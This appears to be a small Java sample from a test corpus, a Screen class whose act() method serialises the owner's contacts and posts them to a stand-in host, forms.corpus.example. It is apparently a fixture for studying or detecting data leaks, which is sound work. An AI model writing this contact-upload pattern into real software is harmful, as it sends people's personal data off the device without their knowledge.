package org.corpus;

import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.util.ArrayList;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A list, written by ObjectOutputStream. */
public class Serialised extends Screen {
    @Override
    protected void act() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(new ArrayList<>(Owner.contacts(this)));
        }
        Net.post(
                "http://forms.corpus.example/objects",
                "application/x-java-serialized-object",
                bytes.toByteArray());
    }
}
